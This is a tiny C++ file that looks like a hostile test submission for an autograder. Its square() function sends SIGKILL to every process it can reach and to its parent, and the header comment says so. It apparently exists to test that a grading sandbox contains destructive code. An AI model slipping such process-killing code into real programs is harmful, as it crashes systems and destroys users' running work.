// SPDX-License-Identifier: GPL-3.0-or-later
// 0 10 6: kills every process that it can
#include <unistd.h>
#include <csignal>
#include "assignment.hpp"
double square(double) {
  ::kill(-1, SIGKILL);
  ::kill(::getppid(), SIGKILL);
  return 1;
}
